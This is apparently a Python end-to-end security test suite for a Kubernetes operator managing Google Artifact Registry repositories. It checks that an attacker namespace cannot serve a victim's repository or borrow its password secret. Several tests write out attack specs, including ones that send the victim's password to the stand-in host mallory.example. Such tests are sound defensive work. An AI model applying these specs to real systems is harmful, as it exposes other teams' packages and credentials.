"""Google's service agent as a confused deputy: it reads upstreams and passwords for whoever names them."""

from e2e.attacks.pair import Json, Pair, Wait
from e2e.attacks.scenarios import JUDGE, Steps, attack
from e2e.attacks.twins import same
from support.google import secret
from support.kube import ACCESSES, GROUP, PROJECT, REPOSITORIES

REMEDY = "spec.accessFrom"


def google_name(pair: Pair) -> str:
    """The attacker's own repository in Google."""
    return pair.full_name.rpartition("/")[0] + f"/{pair.mine}"


def upstreams(pair: Pair) -> list[str] | None:
    """The upstreams of the attacker's repository in Google; None if it does not exist."""
    status, found = pair.kube.google("GET", f"v1/{google_name(pair)}")
    rows = found.get("virtualRepositoryConfig", {}).get("upstreamPolicies", [])
    return [row["repository"] for row in rows] if status == 200 else None


def virtual(pair: Pair, *rows: Json, **spec: object) -> Json:
    """The spec of a Virtual repository with these upstreams."""
    named = [{"name": f"loot-{number}", "priority": 1, **row} for number, row in enumerate(rows)]
    return {"location": pair.location, "mode": "Virtual", "virtual": {"upstreams": named}, **spec}


def remote(pair: Pair, url: str, **more: object) -> Json:
    """The spec of a Remote repository over this URL."""
    return {"location": pair.location, "mode": "Remote", "remote": {"url": url, **more}}


def by_reference(pair: Pair) -> Json:
    """The victim's repository as an upstream."""
    return {"repositoryRef": {"name": pair.key, "namespace": pair.victim}}


def nothing(pair: Pair, spec: Json, reason: str, *words: str) -> Steps:
    """Declare a repository that reads from the victim: it is not created."""
    pair.declare(REPOSITORIES, pair.mine, spec)
    yield pair.shows(REPOSITORIES, pair.mine, reason)
    yield JUDGE
    pair.says(REPOSITORIES, pair.mine, reason, *words)
    assert upstreams(pair) is None


@attack()
def upstream_by_reference(pair: Pair) -> Steps:
    """The attacker's Virtual repository serves the victim's, and one that does not exist, by their objects."""
    absent = {"repositoryRef": {"name": "absent", "namespace": pair.victim}}
    pair.declare(REPOSITORIES, "absent-of-mallory", virtual(pair, absent))
    yield pair.shows(REPOSITORIES, "absent-of-mallory", "RefNotPermitted")
    yield from nothing(pair, virtual(pair, by_reference(pair)), "RefNotPermitted", REMEDY)
    renamed = {"absent-of-mallory": pair.mine, f"{pair.victim}/absent": f"{pair.victim}/{pair.key}"}
    same(pair, REPOSITORIES, pair.mine, "absent-of-mallory", renamed)


@attack()
def upstream_by_full_name(pair: Pair) -> Steps:
    """The attacker's Virtual repository names the victim's in Google, in a project that both may use."""
    yield from nothing(pair, virtual(pair, {"repository": pair.full_name}), "RefNotPermitted", REMEDY)


@attack()
def upstream_of_another_project(pair: Pair) -> Steps:
    """The attacker's Virtual repository names one in a project that its namespace may not use."""
    name = pair.full_name.replace(PROJECT, "other-project")
    yield from nothing(pair, virtual(pair, {"repository": name}), "RefNotPermitted", "wheelhouse.dev/upstreams")


@attack()
def upstream_for_writers(pair: Pair) -> Steps:
    """The attacker may write to the victim's repository and not read it, and serves it in its Virtual repository."""
    pair.open(namespaces=[pair.attacker], roles=["Writer"])
    yield pair.ready(REPOSITORIES, pair.key, pair.victim)
    yield from nothing(pair, virtual(pair, by_reference(pair)), "RefNotPermitted", REMEDY)


@attack()
def upstream_through_its_own_object(pair: Pair) -> Steps:
    """The attacker observes the victim's repository, and serves its own object for it."""
    spec = {"location": pair.location, "managementPolicy": "Observe"}
    pair.declare(REPOSITORIES, pair.key, spec)
    yield pair.shows(REPOSITORIES, pair.key, "OwnedElsewhere")
    own = {"repositoryRef": {"name": pair.key}}
    pair.declare(REPOSITORIES, pair.mine, virtual(pair, own))
    yield pair.shows(REPOSITORIES, pair.mine, "RepositoryNotReady")
    yield JUDGE
    assert not upstreams(pair)


@attack()
def upstream_by_url(pair: Pair) -> Steps:
    """The attacker's Remote repository caches the victim's by its URL."""
    url = f"https://{pair.location}-python.pkg.dev/{PROJECT}/{pair.key}/simple/"
    yield from nothing(pair, remote(pair, url), "RefNotPermitted", REMEDY)


@attack()
def upstream_by_url_with_a_port(pair: Pair) -> Steps:
    """The attacker's Remote repository names the victim's with the port that https has anyway."""
    url = f"https://{pair.location}-python.pkg.dev:443/{PROJECT}/{pair.key}"
    yield from nothing(pair, remote(pair, url), "RefNotPermitted", REMEDY)


@attack()
def upstream_by_a_regional_host(pair: Pair) -> Steps:
    """The attacker's Remote repository names the victim's by another host of Artifact Registry."""
    url = f"https://python.{pair.location}.rep.pkg.dev/{PROJECT}/{pair.key}/"
    yield from nothing(pair, remote(pair, url), "RefNotPermitted", "python.pkg.dev/PROJECT")


@attack()
def upstream_by_a_longer_url(pair: Pair) -> Steps:
    """The attacker's Remote repository names a package of the victim's repository instead of its index."""
    url = f"https://{pair.location}-python.pkg.dev/{PROJECT}/{pair.key}/simple/secret-package/"
    yield from nothing(pair, remote(pair, url), "RefNotPermitted")


@attack()
def password_of_the_victim(pair: Pair) -> Steps:
    """The attacker's Remote repository sends the password of the victim's upstream to a host of the attacker's."""
    secret(pair.kube, f"password-{pair.location}", "hunter2")
    version = f"projects/{PROJECT}/secrets/password-{pair.location}/versions/1"
    login = {"username": "mallory", "passwordSecretVersion": version}
    spec = remote(pair, "https://mallory.example/simple/", credentials=login, validateUpstream=False)
    yield from nothing(pair, spec, "SecretNotAllowed", "wheelhouse.dev/upstream-secrets")


@attack()
def password_added_later(pair: Pair) -> Steps:
    """The attacker has a Remote repository over its own host, and adds the password of another team to it."""
    spec = remote(pair, "https://mallory.example/simple/", validateUpstream=False)
    pair.declare(REPOSITORIES, pair.mine, spec)
    yield pair.ready(REPOSITORIES, pair.mine)
    version = f"projects/{PROJECT}/secrets/victims-password/versions/latest"
    login = {"username": "mallory", "passwordSecretVersion": version}
    pair.edit(REPOSITORIES, pair.mine, {"spec": {"remote": {"credentials": login}}})
    yield pair.shows(REPOSITORIES, pair.mine, "SecretNotAllowed")
    yield JUDGE
    pair.says(REPOSITORIES, pair.mine, "SecretNotAllowed")
    _, found = pair.kube.google("GET", f"v1/{google_name(pair)}")
    assert "upstreamCredentials" not in found["remoteRepositoryConfig"]


def unserved(pair: Pair) -> Wait:
    """Wait, for 60 seconds at most, until the attacker's repository has no upstream."""
    return Wait(lambda: upstreams(pair) == [], "the upstream to go")


def serves(pair: Pair) -> Steps:
    """Let the attacker have a Virtual repository over the victim's, by consent."""
    pair.open(namespaces=[pair.attacker])
    yield pair.ready(REPOSITORIES, pair.key, pair.victim)
    pair.declare(REPOSITORIES, pair.mine, virtual(pair, by_reference(pair)))
    yield pair.ready(REPOSITORIES, pair.mine)
    assert upstreams(pair) == [pair.full_name]


@attack()
def upstream_withdrawn(pair: Pair) -> Steps:
    """The attacker goes on serving the victim's repository when the consent is withdrawn."""
    yield from serves(pair)
    pair.open()
    yield unserved(pair)
    yield pair.shows(REPOSITORIES, pair.mine, "RefNotPermitted")
    yield JUDGE
    pair.says(REPOSITORIES, pair.mine, "RefNotPermitted", REMEDY)


@attack()
def upstream_withdrawn_while_suspended(pair: Pair) -> Steps:
    """The attacker suspends its Virtual repository before the consent is withdrawn."""
    yield from serves(pair)
    pair.edit(REPOSITORIES, pair.mine, {"spec": {"suspend": True}})
    yield pair.shows(REPOSITORIES, pair.mine, "Suspended")
    pair.open()
    yield unserved(pair)
    yield JUDGE
    assert upstreams(pair) == []


@attack()
def upstream_kept_by_observing(pair: Pair) -> Steps:
    """The attacker turns its Virtual repository to Observe, so that the operator no longer changes it."""
    yield from serves(pair)
    pair.edit(REPOSITORIES, pair.mine, {"spec": {"managementPolicy": "Observe"}})
    yield unserved(pair)
    pair.open()
    yield JUDGE
    assert upstreams(pair) == []


@attack()
def upstream_kept_by_release(pair: Pair) -> Steps:
    """The attacker deletes its object with Orphan, so that the repository that serves the victim's stays."""
    yield from serves(pair)
    assert pair.ask("DELETE", pair.path(REPOSITORIES, pair.mine))[0] == 200
    yield pair.gone(REPOSITORIES, pair.mine)
    yield JUDGE
    assert upstreams(pair) == []


@attack()
def upstream_of_a_deleted_object(pair: Pair) -> Steps:
    """The victim's object is deleted and its repository stays, and the attacker goes on serving it."""
    yield from serves(pair)
    pair.members, pair.kept = {}, False
    path = f"{GROUP}/namespaces/{pair.victim}"
    for name in (f"{ACCESSES}/reader", f"{REPOSITORIES}/{pair.key}"):
        assert pair.admin.ask("DELETE", f"{path}/{name}")[0] == 200
    yield unserved(pair)
    yield JUDGE
    pair.says(REPOSITORIES, pair.mine, "RefNotPermitted")
